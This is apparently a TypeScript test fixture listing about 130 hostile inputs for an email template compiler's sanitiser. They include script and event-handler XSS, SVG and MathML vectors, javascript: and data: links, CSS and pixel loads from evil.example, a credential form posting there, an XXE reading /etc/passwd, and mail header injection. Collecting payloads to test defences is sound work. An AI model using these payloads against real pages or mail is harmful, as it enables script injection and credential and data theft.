/**
 * What a hostile feed may write where a text is expected: a payload for each
 * way in that is known. Those that run set `pwned` or open a dialog; those that
 * load ask evil.example. None of it may come to pass.
 */
export type Payload = readonly [name: string, text: string];

const c = String.fromCodePoint;

const scripts: readonly Payload[] = [
  ['a script', '<script>pwned=1</script>'],
  ['a script in capitals, with a slash', '<SCRIPT/x>pwned=1</SCRIPT/y>'],
  ['a script from elsewhere', '<script src=https://evil.example/a.js></script>'],
  ['a script from where the page is from', '<script src=//evil.example/a.js async defer></script>'],
  ['a module', '<script type=module>import("https://evil.example/m.js");pwned=1</script>'],
  ['a script in a script', '<scr<script>ipt>pwned=1</scr</script>ipt>'],
  ['a script that never ends', '<script>pwned=1//'],
  ['a script that a quote leads', `"><script>pwned=1</script>`],
  ['a script that an apostrophe leads', `'><script>pwned=1</script>`],
  ['a script that a backtick leads', '`><script>pwned=1</script>'],
  ['a script with white space of all kinds', '<script\t\n\f\r>pwned=1</script\n>'],
  ['two brackets', '<<script>pwned=1//<</script>'],
];

const handlers: readonly Payload[] = [
  ['a picture that fails', '<img src=x onerror=pwned=1>'],
  ['a picture that loads', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="pwned=1">'],
  ['slashes for spaces', '<img/src=x/onerror=pwned=1//'],
  ['two of one attribute', '<img src=x onerror="pwned=1" onerror="pwned=2">'],
  ['an attribute in a quote that ends early', '<img title="a"onerror=pwned=1 src=x b="c">'],
  ['a body', '<body onload=pwned=1 onpageshow=pwned=1>'],
  ['an input that takes the focus', '<input autofocus onfocus=pwned=1>'],
  ['details that are open', '<details open ontoggle=pwned=1><summary>x</summary></details>'],
  ['a marquee', '<marquee onstart=pwned=1>x</marquee>'],
  ['a video without a source', '<video><source onerror=pwned=1></video>'],
  ['a sound', '<audio src=x onerror=pwned=1 autoplay></audio>'],
  ['an animation', '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=pwned=1>x</b>'],
  ['a transition', '<b id=t tabindex=1 style="transition:color 1ms" ontransitionend=pwned=1>x</b>'],
  ['out of an attribute in double quotes', '" onmouseover="pwned=1" style="position:fixed;inset:0" x="'],
  ['out of an attribute in single quotes', `' onmouseover='pwned=1' autofocus onfocus='pwned=1' x='`],
  ['out of an attribute without quotes', 'x onerror=pwned=1 '],
  ['a popover', '<button popovertarget=p>x</button><b popover id=p onbeforetoggle=pwned=1>x</b>'],
];

const drawings: readonly Payload[] = [
  ['SVG that loads', '<svg onload=pwned=1>'],
  ['SVG with a script', '<svg><script>pwned=1</script></svg>'],
  ['SVG with a script by reference', '<svg><script href=https://evil.example/a.js /></svg>'],
  ['SVG that animates a link', '<svg><a><animate attributeName=href values=javascript:pwned=1 /><text y=20>x</text></a></svg>'],
  ['SVG that sets a handler', '<svg><set attributeName=onload to=pwned=1 /></svg>'],
  ['SVG that uses another', `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned=1</script></svg>#x"/></svg>`],
  ['SVG with HTML in it', '<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>'],
  ['MathML with a link', '<math><mi xlink:href="javascript:pwned=1">x</mi></math>'],
  ['MathML that ends in HTML', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned=1&gt;">'],
];

const links: readonly Payload[] = [
  ['javascript:', 'javascript:pwned=1'],
  ['javascript: in a link', '<a href="javascript:pwned=1">x</a>'],
  ['javascript: in mixed case, behind controls', '\u0001 jAvA\tsCrIpT\n:pwned=1'],
  ['javascript: with entities', '<a href="&#106;avascript&colon;pwned=1&Tab;">x</a>'],
  ['javascript: that looks like an address', 'javascript://news.example.org/%0Apwned=1'],
  ['vbscript:', 'vbscript:msgbox(1)'],
  ['data: with HTML', 'data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+'],
  ['data: with SVG', `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>`],
  ['a feed: of something else', 'feed:javascript:pwned=1'],
  ['view-source:, blob:, filesystem:', 'blob:https://evil.example/1 view-source:x filesystem:y'],
  ['a password in an address', 'https://news.example.org:x@evil.example/'],
  ['an address without its scheme', '//evil.example/x'],
  ['a quote in an address', 'https://news.example.org/"onmouseover="pwned=1"x="'],
  ['a tag in an address', 'https://news.example.org/?<script>pwned=1</script>'],
];

const styles: readonly Payload[] = [
  ['a style for all', '<style>*{display:none!important;background:url(https://evil.example/s)}</style>'],
  ['an import', '<style>@import "https://evil.example/i.css";</style>'],
  ['an expression', '<div style="width:expression(pwned=1);behavior:url(https://evil.example/b.htc)">x</div>'],
  ['a binding', '<b style="-moz-binding:url(https://evil.example/x.xml#x);background:url(\'javascript:pwned=1\')">x</b>'],
  ['a picture in a style', '<b style="background-image:url(https://evil.example/p.png)">x</b>'],
  ['out of a style attribute', 'red;background:url(https://evil.example/q)"></td></tr></table>'],
  ['a style sheet', '<link rel=stylesheet href=https://evil.example/l.css>'],
  ['a style that never ends', '<style><!--'],
  ['a font', '<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>'],
];

const elements: readonly Payload[] = [
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example/">'],
  ['a policy', `<meta http-equiv="Content-Security-Policy" content="img-src 'none'">`],
  ['a charset', '<meta charset=utf-7>'],
  ['a base', '<base href=https://evil.example/>'],
  ['a frame', '<iframe src=https://evil.example/></iframe>'],
  ['a frame with its document', '<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;"></iframe>'],
  ['a frame of a script', '<iframe src=javascript:parent.pwned=1>'],
  ['frames', '<frameset><frame src=https://evil.example/></frameset>'],
  ['an object', '<object data="data:text/html,<script>parent.pwned=1</script>" type=text/html></object>'],
  ['an embed', '<embed src=https://evil.example/x.swf type=application/x-shockwave-flash>'],
  ['an applet', '<applet code=x codebase=https://evil.example/></applet>'],
  ['a form', '<form action=https://evil.example/><input name=password type=password><button>Log in</button></form>'],
  ['a button with a form of its own', '<button formaction=javascript:pwned=1>x</button><isindex action=javascript:pwned=1 type=image>'],
  ['a preload', '<link rel=preload as=image href=https://evil.example/p><link rel=dns-prefetch href=//evil.example>'],
  ['an element of one’s own, with a shadow', '<x-y><template shadowrootmode=open><img src=x onerror=pwned=1></template></x-y>'],
];

const encodings: readonly Payload[] = [
  ['entities', '&lt;img src=x onerror=pwned=1&gt;'],
  ['entities of entities', '&amp;lt;img src=x onerror=pwned=1&amp;gt;'],
  ['entities three deep', '&amp;amp;lt;script&amp;amp;gt;pwned=1&amp;amp;lt;/script&amp;amp;gt;'],
  ['numbers', '&#60;script&#62;pwned=1&#60;/script&#62;'],
  ['long numbers without an end', '&#0000060script&#x000003epwned=1&#x3C/script&#x3E'],
  ['percent signs', '%3Cscript%3Epwned=1%3C/script%3E'],
  ['escapes of JavaScript', '\\u003cscript\\u003epwned=1\\u003c/script\\u003e\\x3cimg src=x onerror=pwned=1\\x3e'],
  ['UTF-7', '+ADw-script+AD4-pwned=1+ADw-/script+AD4-'],
  ['wide brackets', '＜script＞pwned=1＜/script＞ ‹img src=x onerror=pwned=1›'],
  ['null bytes', '<scr\0ipt>pwned=1</scr\0ipt><img src=x on\0error=pwned=1>'],
  ['controls in a tag', '<\u0001script>pwned=1</script><img\u000bsrc=x\u000conerror=pwned=1>'],
  ['half a surrogate', `\ud800<img src=x onerror=pwned=1>\udfff`],
];

const mutations: readonly Payload[] = [
  ['out of noscript', '<noscript><p title="</noscript><img src=x onerror=pwned=1>">'],
  ['out of a style in SVG', '<svg><style><img title="</style><img src=x onerror=pwned=1>">'],
  ['out of a title', '</title><img src=x onerror=pwned=1><title>'],
  ['out of a textarea', '<textarea><p title="</textarea><img src=x onerror=pwned=1>">'],
  ['out of xmp, plaintext, listing', '<xmp><p title="</xmp><img src=x onerror=pwned=1>"></xmp><listing>&lt;img src=x onerror=pwned=1&gt;</listing><plaintext>'],
  ['out of a template', '<template><s><template><s></template><img src=x onerror=pwned=1></s></template>'],
  ['out of a select', '<select><style></select><img src=x onerror=pwned=1></style>'],
  ['forms in forms in math', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned=1>'],
  ['out of the table', '</td></tr></tbody></table></div></body></html><img src=x onerror=pwned=1>'],
  ['a tag that never ends', '<img src="https://evil.example/leak?'],
  ['a quote that never ends', '<a href="https://evil.example/?'],
  ['a comment that never ends', '<!-- <img src=x onerror=pwned=1>'],
  ['a comment that ends early', '<!--><img src=x onerror=pwned=1>-->'],
  ['a comment that ends late', '<!-- --!><img src=x onerror=pwned=1> -->'],
  ['a comment of conditions', '<!--[if gte mso 9]><img src=x onerror=pwned=1><![endif]--><![if !mso]><script>pwned=1</script><![endif]>'],
  ['the end of a comment of conditions', '<![endif]--><script>pwned=1</script><!--[if mso]>'],
  ['a section', '<![CDATA[<script>pwned=1</script>]]>'],
  ['an instruction', '<?xml-stylesheet href="https://evil.example/x.xsl"?><?php echo 1 ?><% pwned %>'],
  ['a declaration', '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;'],
];

const pictures: readonly Payload[] = [
  ['a picture set', '<img srcset="https://evil.example/1x 1x, https://evil.example/2x 2x" sizes=100vw>'],
  ['a picture with sources', '<picture><source srcset=https://evil.example/s><img src=x></picture>'],
  ['a picture by http', '<img src="http://evil.example/plain.jpg" width="600" height="400">'],
  ['a poster', '<video poster=https://evil.example/p controls></video>'],
  ['a background', '<table background=https://evil.example/b><td background=https://evil.example/c>x</td></table>'],
  ['a tracking pixel', '<img src="https://evil.example/open.gif?reader=1" width="1" height="1" alt="">'],
  ['a tracking pixel of no size', '<img src="https://evil.example/o.png" height=0 width=0>'],
  ['a tracking pixel that tells by its name', '<img src="https://pixel.evil.example/pixel.gif">'],
];

const ours: readonly Payload[] = [
  ['braces of the template', '{{constructor.constructor "pwned=1"}}{{{html}}}{{#with this}}{{lookup . "x"}}{{/with}}'],
  ['braces that do not end', '{{#each sections}}{{{{raw}}}}{{!--'],
  ['other templates’ marks', '${pwned=1}#{pwned=1}<%= pwned %>[[${pwned}]]{% raw %}'],
  ['marks of our compiler', '{{tag0}}{{tag1}}<mj-raw>x</mj-raw>'],
  ['a slot', `${c(0xfdd0)}unsubscribeUrl${c(0xfdd1)}`],
  ['half a slot', `${c(0xfdd0)}unsubscribeUrl`],
  ['a slot in an address', `https://evil.example/?to=${c(0xfdd0)}unsubscribeUrl${c(0xfdd1)}`],
  ['a slot in pieces', `${c(0xfdd0)}\u200bunsubscribe\u202eUrl${c(0xfdd1)}${c(0xfffe)}${c(0xffff)}`],
  ['names of JavaScript', '__proto__ constructor toString hasOwnProperty valueOf'],
];

const lines: readonly Payload[] = [
  ['a header', 'Dawn\r\nBcc: victim@evil.example\r\n\r\n<script>pwned=1</script>'],
  ['a header behind a bare line feed', 'Dawn\nBcc: victim@evil.example'],
  ['a header behind a bare return', 'Dawn\rX-Evil: 1'],
  ['a header behind breaks of Unicode', 'Dawn\u0085Bcc: a@evil.example\u2028Bcc: b@evil.example\u2029Bcc: c@evil.example\vBcc: d@evil.example'],
  ['a header that is encoded', '=?utf-8?Q?Dawn=0D=0ABcc:_victim@evil.example?='],
  ['a boundary', '\r\n----_NmP-1\r\nContent-Type: text/html\r\n\r\n<script>pwned=1</script>'],
  ['the end of the mail', '\r\n.\r\nQUIT\r\n'],
  ['a signature', '\n-- \nFrom: bank@evil.example'],
  ['commands to a terminal', '\u001b]0;owned\u0007\u001b[2J\u001b[31m\u009b31m'],
  ['text that runs backwards', '\u202egnp.exe\u202c \u2066\u2067x\u2069 \u200f\u200e\u061c'],
  ['marks of direction that do not end', '\u202e\u2067\u202b\u202d'.repeat(20)],
  ['ten thousand characters', 'A'.repeat(10_000)],
  ['ten thousand brackets', '<'.repeat(10_000)],
  ['ten thousand tags', '<b onclick=pwned=1>'.repeat(550)],
  ['nothing to see', '\u200b\u200c\u200d\u2060\ufeff\u00ad'],
  ['piled up marks', `a${'\u0300\u0489'.repeat(400)}`],
];

export const payloads: readonly Payload[] = [scripts, handlers, drawings, links, styles, elements, encodings, mutations, pictures, ours, lines].flat();
